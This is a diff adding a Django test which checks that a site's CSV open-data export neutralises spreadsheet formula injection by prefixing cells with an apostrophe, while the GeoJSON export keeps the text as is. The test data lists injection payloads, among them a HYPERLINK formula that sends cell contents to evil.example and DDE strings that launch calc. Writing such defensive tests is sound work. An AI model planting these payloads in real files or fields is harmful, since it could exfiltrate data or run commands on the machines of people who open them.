@@ -71,6 +71,35 @@ def test_the_csv_keeps_cyrillic_and_kazakh_letters(client, site_data):
     assert (row["name_kk"], row["name_ru"]) == ("Саябақты құтқар", "Спасём парк")
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTab first",
+    "\rCarriage return first",
+]
+
+
+def test_no_csv_cell_is_a_formula_a_spreadsheet_would_run(client, site_data):
+    park = site_data["park"]
+    park.name_en, park.summary_en, park.name_ru, park.summary_ru, park.name_kk, park.summary_kk = FORMULAS
+    park.year_started = 2019
+    park.save()
+    _header, rows = csv_rows(client.get(reverse("activism:open-data-csv")))
+    row = next(row for row in rows if row["slug"] == "save-the-park")
+    texts = [row[column] for column in ["name_en", "summary_en", "name_ru", "summary_ru", "name_kk", "summary_kk"]]
+    assert texts == [f"'{formula}" for formula in FORMULAS]
+    assert row["year_started"] == "2019"  # a number stays a number
+    assert row["name_en"] == "'" + park.name_en  # the rest of the text is kept exactly
+    # The GeoJSON file is no spreadsheet: its text is given unchanged.
+    features = json.loads(client.get(reverse("activism:open-data-geojson")).content)["features"]
+    park_properties = next(feature["properties"] for feature in features if feature["id"] == "save-the-park")
+    assert park_properties["name_en"] == FORMULAS[0]
+    # The open data page says so.
+    assert "starts with an apostrophe" in client.get(reverse("activism:open-data")).content.decode()
+
+
 def test_the_files_are_named_with_the_date_of_export(client, open_data):
     today = timezone.localdate().isoformat()
     csv_response = client.get(reverse("activism:open-data-csv"))
